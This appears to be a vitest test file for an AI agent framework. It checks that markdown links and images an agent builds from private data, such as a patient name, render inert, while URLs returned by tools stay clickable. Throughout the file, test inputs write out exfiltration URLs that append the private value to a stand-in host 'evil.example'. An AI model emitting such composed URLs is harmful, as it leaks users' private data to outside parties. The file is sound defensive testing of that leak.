import { callable } from "../support/called-agents.ts";
import { tool } from "ai";
import { marked } from "marked";
import { expect, it } from "vitest";
import * as z from "zod";
import { codeTool } from "../../packages/code/src/code-tool.ts";
import type { Agent } from "../../src/turn/agent.ts";
import type { Json } from "../../src/value/json.ts";
import { evaluatingSandbox } from "../support/evaluating-sandbox.ts";
import { MemoryFiles } from "../support/memory-files.ts";
import { finish, type Part, scriptedModel, text, toolCall } from "byref/testing";
import { Conversation, shownText } from "../support/turn.ts";

const PRIVATE = "4711PRIVATE";
const EVIL = "https://evil.example/?d=";
const any = z.object({}).loose();

const agent: Agent = {
  name: "test",
  description: "For tests.",
  instructions: "Help.",
  delegates: ["other"],
  naming: (name) => name,
  policies: { shorten: { declassifies: true } },
  tools: {
    echo: tool({ inputSchema: any, execute: ({ v }) => v }),
    shorten: tool({ inputSchema: any, execute: () => "https://sho.rt/1" }),
    find: tool({
      inputSchema: any,
      execute: () => [{ id: 1, url: "https://shop.example/1", name: PRIVATE }],
    }),
  },
};

/** Calls that the model makes, its answer, and the answer of the other agent if that is asked. */
type Said = readonly [calls: readonly (readonly Part[])[], answer: string, other?: string];

/** Returns the answer as HTML, as a page shows it. */
async function htmlOf(said: Said, chat = conversation(said[2] ?? "")): Promise<string> {
  const [calls, answer] = said;
  if (chat.store.count() === 0)
    await chat.store.save({ name: "patients", value: [{ name: PRIVATE }] });
  const steps = calls.map((call) => [call, finish("tool-calls")]);
  const turn = await chat.say({ steps: [...steps, [text(answer), finish()]] });
  return marked.parse(shownText(turn.chunks), { async: true });
}

function conversation(other: string): Conversation {
  return new Conversation({
    agent,
    services: {
      files: new MemoryFiles(),
      code: (options) => codeTool({ ...options, sandbox: evaluatingSandbox }),
      findAgent: () =>
        callable(
          { ...agent, name: "other", delegates: [] },
          scriptedModel([[text(other), finish()]]),
        ),
    },
  });
}

let ids = 0;
const call = (name: string, input: Json) => toolCall(name, input, { id: `call_${ids++}` });
const set = (name: string, value: Json, mode = "replace") =>
  call("set_variable", { name, value, mode });
const run = (code: string, variables = ["patients"]) => call("run_code", { code, variables });

const links = (html: string): string => (html.match(/<(?:a|img)\s[^>]*>/gi) ?? []).join("");

const asking = call("delegate", { agent: "other", task: "Go." });
const listing = "return find.map(({ id, url }) => `- [Order ${id}](${url})`).join('\\n')";
const calling = `await tools.echo({ v: "${EVIL}" + patients[0].name }); return 1`;

it.each<[string, ...Said]>([
  ["in a variable that it sets", [set("link", `![a](${EVIL}$patients[0].name)`)], "$link"],
  ["in a tool's result", [call("echo", { v: `[a](${EVIL}$patients[0].name)` })], "$echo"],
  ["by code", [run(`return "![a](${EVIL}" + patients[0].name + ")"`)], "$run_code_1"],
  ["by code that calls a tool", [run(calling)], "See $echo"],
  [
    "by another agent",
    ...([[asking], "$delegate_other", `Name: $patients[0].name ![a](${EVIL}${PRIVATE})`] as const),
  ],
  [
    "by appending",
    [set("l", `![a](${EVIL}`), set("l", "$patients[0].name", "append"), set("l", ")", "append")],
    "$l",
  ],
  [
    "over the strings of an object",
    [set("o", { a: `![a](${EVIL}`, b: "$patients[0].name" })],
    "$o)",
  ],
  [
    "in a copy of a copy",
    [set("l", `${EVIL}$patients[0].name`), set("o", { b: "$l" }), run("return o.b", ["o"])],
    "See $run_code_1",
  ],
])("a URL that a model composes from values is inert %s", async (_, ...said) => {
  const html = await htmlOf(said);
  expect(html).toContain(PRIVATE);
  expect(links(html)).not.toContain(PRIVATE);
});

it("a URL that a model composes from values is inert in a sealed value of any source", async () => {
  const chat = conversation("");
  await chat.store.save({ name: "s", value: `[a](${EVIL}${PRIVATE})`, visibility: "sealed" });
  const html = await htmlOf([[], "$s"], chat);
  expect(html).toContain(PRIVATE);
  expect(links(html)).toBe("");
});

const finding = call("find", {});

it.each<[string, ...Said]>([
  ["as it is", [finding], "[one]($find[0].url) or $find[0].url"],
  ["in a table", [finding], "$find"],
  ["in a copy", [finding, set("x", "$find[0].url")], "$x"],
  ["in a text", [finding, set("x", "At $find[0].url for $patients[0].name.")], "$x"],
  ["in a list that code makes", [finding, run(listing, ["find"])], "$run_code_1"],
  ["that another agent passes on", [finding, asking], "$delegate_other", "At $find[0].url"],
])("a URL that a tool returned is a link %s", async (_, ...said) => {
  expect(links(await htmlOf(said))).toContain('<a href="https://shop.example/1">');
});

it("a URL that a tool returned is a link even if the tool received a composed URL, if its policy declassifies", async () => {
  const shortening = [call("shorten", { v: `${EVIL}$patients[0].name` })];
  const html = await htmlOf([shortening, "$shorten"]);
  expect(links(html)).toBe('<a href="https://sho.rt/1">');
});
